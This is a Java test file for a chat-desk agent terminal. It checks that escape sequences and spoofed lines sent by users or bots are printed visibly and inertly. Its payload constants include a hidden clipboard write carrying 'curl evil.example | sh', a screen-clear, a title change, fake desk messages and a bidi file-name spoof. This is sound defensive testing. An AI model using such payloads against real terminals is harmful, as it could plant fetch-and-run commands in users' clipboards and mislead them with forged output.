package dev.handoff.cli.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.handoff.desk.api.AgentView;
import dev.handoff.desk.api.ChatSummary;
import dev.handoff.desk.api.ChatView;
import dev.handoff.desk.api.Contact;
import dev.handoff.desk.api.DeskError;
import dev.handoff.desk.api.MessageView;
import dev.handoff.desk.api.TranslationView;
import dev.handoff.desk.config.DeskConfig;
import dev.handoff.desk.server.DeskService;
import dev.handoff.desk.support.Terminal;
import dev.handoff.desk.support.TestBot;
import dev.handoff.desk.support.TestDesks;
import dev.handoff.protocol.LiveAgentEvents;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text from users, bots and other agents reaches the agent terminal made visible: no escape sequence
 * runs (clear the screen, set the title, write the clipboard) and no fake desk line can be printed.
 */
class TerminalEscapesTest {
    static final String CLEAR_SCREEN = "\u001b[2J\u001b[H";
    static final String SET_TITLE = "\u001b]0;pwned\u0007";
    static final String CLIPBOARD = "\u001b]52;c;"
            + Base64.getEncoder().encodeToString("curl evil.example | sh".getBytes(StandardCharsets.UTF_8))
            + "\u0007";
    static final String FAKE_LINES = "thanks\r\ndesk refused send: your session expired\rsigned out\n";
    static final String C1_AND_BIDI = "\u009b2J \u009d0;x\u009c invoice\u202eexe.pdf\u2066\u2069 \u007f";
    static final List<String> PAYLOADS = List.of(CLEAR_SCREEN, SET_TITLE, CLIPBOARD, FAKE_LINES, C1_AND_BIDI);

    @TempDir
    Path data;

    @Test
    void controlCharactersAreShownAsEscapesAndLineBreaksAsArrows() {
        assertThat(Visible.of(CLEAR_SCREEN)).isEqualTo("\\x1b[2J\\x1b[H");
        assertThat(Visible.of(SET_TITLE)).isEqualTo("\\x1b]0;pwned\\x07");
        assertThat(Visible.of("a\nb\r\nc\rd\te")).isEqualTo("a↵b↵c\\x0dd\\x09e");
        assertThat(Visible.of("\u0000\u001f\u007f\u0080\u009f")).isEqualTo("\\x00\\x1f\\x7f\\x80\\x9f");
        assertThat(Visible.of("\u202a\u202e\u2066\u2069\u2028\u2029"))
                .isEqualTo("\\u202a\\u202e\\u2066\\u2069\\u2028\\u2029");
        assertThat(Visible.of("lone \ud800 and \udc00")).isEqualTo("lone \\ud800 and \\udc00");
    }

    @Test
    void everyOtherCharacterIsPrintedAsItIs() {
        String text = "Sawubona! Ngiyabonga, Thandi. مرحبا שלום 你好 🙂 é ß \\x1b tab-free";
        assertThat(Visible.of(text)).isSameAs(text);
    }

    @Test
    void theScreenPrintsEveryPayloadOnItsOwnSingleLineWithoutAControlCharacter() {
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        AgentScreen screen = new AgentScreen("ann", new PrintStream(printed, true, StandardCharsets.UTF_8));
        ChatSummary chat = new ChatSummary(
                "c1",
                "conv" + CLEAR_SCREEN,
                "bot",
                "sales",
                "en",
                new Contact(SET_TITLE + "Eve", null, null),
                FAKE_LINES,
                "assigned",
                "ann",
                null,
                null,
                null,
                null,
                null,
                true);
        List<MessageView> history = PAYLOADS.stream()
                .map(p -> new MessageView("c1", 0, true, "user", null, p, "en", null, "2024-05-01T10:00:00Z"))
                .toList();
        screen.signedIn(new AgentView("ann", List.of("sales"), 2, "en", "online", 0));
        screen.assigned(new ChatView(chat, history));
        int seq = 1;
        for (String p : PAYLOADS) screen.message(new MessageView("c1", seq++, false, "user", null, p, "en", null, "t"));
        // an engine's translation is text from outside too
        for (String p : PAYLOADS)
            screen.message(new MessageView(
                    "c1", seq++, false, "user", null, "x", "zu", new TranslationView(p, "en" + p, p, null), "t"));
        screen.message(new MessageView("c1", seq, false, "agent", "bob" + CLIPBOARD, "hi", "en", null, "t"));
        screen.deskError(new DeskError("send", "not_found", "no chat '" + FAKE_LINES + "'"));

        String out = printed.toString(StandardCharsets.UTF_8);
        assertNoControlCharacters(out);
        List<String> lines = out.lines().toList();
        int expected = 1 + 1 + PAYLOADS.size() + PAYLOADS.size() + PAYLOADS.size() + 1 + 1; // signed in, assigned, ...
        assertThat(lines).hasSize(expected);
        assertThat(lines)
                .contains(
                        "[c1] user: \\x1b[2J\\x1b[H",
                        "[c1] user: \\x1b]0;pwned\\x07",
                        "[c1] user: thanks↵desk refused send: your session expired\\x0dsigned out↵",
                        "    (before handoff) user: \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
        assertThat(lines).filteredOn(l -> l.startsWith("desk refused")).hasSize(1);
        assertThat(lines).filteredOn(l -> l.startsWith("signed out")).isEmpty();
    }

    @Test
    void payloadsTypedByAUserReachTheRealTerminalVisibleAndInert() throws Exception {
        DeskConfig config = TestDesks.config(data);
        DeskService desk = TestDesks.start(config);
        Terminal terminal = new Terminal();
        AgentTerminal client =
                new AgentTerminal(URI.create(TestDesks.url(config)), "ann", "ann-token", terminal.in, terminal.out);
        CompletableFuture<Integer> exit = CompletableFuture.supplyAsync(() -> {
            try {
                return client.run();
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
        try {
            terminal.awaitLine("signed in as ann");
            try (TestBot bot = TestBot.connect(
                    TestDesks.url(config),
                    "escapes",
                    Map.of("department", "sales", "contact", Map.of("name", SET_TITLE + "Eve")),
                    List.<String[]>of(new String[] {"user", CLEAR_SCREEN + "history"}))) {
                bot.events.await(LiveAgentEvents.MESSAGES);
                terminal.awaitLine("assigned to you:");
                terminal.awaitLine("(before handoff) user: \\x1b[2J\\x1b[Hhistory");
                for (String p : PAYLOADS) bot.say(p);
                bot.say("the end");
                terminal.awaitLine("user: the end");
            }
            String screen = terminal.screen();
            assertNoControlCharacters(screen);
            assertThat(screen)
                    .contains("\\x1b]0;pwned\\x07Eve")
                    .contains("user: \\x1b]52;c;")
                    .contains("user: thanks↵desk refused send: your session expired\\x0dsigned out↵")
                    .contains("invoice\\u202eexe.pdf");
            assertThat(screen.lines().filter(l -> l.startsWith("desk refused"))).isEmpty();
        } finally {
            terminal.close();
            exit.get(30, TimeUnit.SECONDS);
            desk.stop();
        }
    }

    /** Nothing a terminal acts on: only printable text and the line ends of the terminal's own lines. */
    static void assertNoControlCharacters(String out) {
        for (int i = 0; i < out.length(); i++) {
            char c = out.charAt(i);
            boolean control = (c < 0x20 && c != '\n')
                    || (c >= 0x7f && c <= 0x9f)
                    || (c >= 0x202a && c <= 0x202e)
                    || (c >= 0x2066 && c <= 0x2069);
            assertThat(control)
                    .as("U+%04X at %d in: %s", (int) c, i, out.substring(Math.max(0, i - 40), i))
                    .isFalse();
        }
    }
}
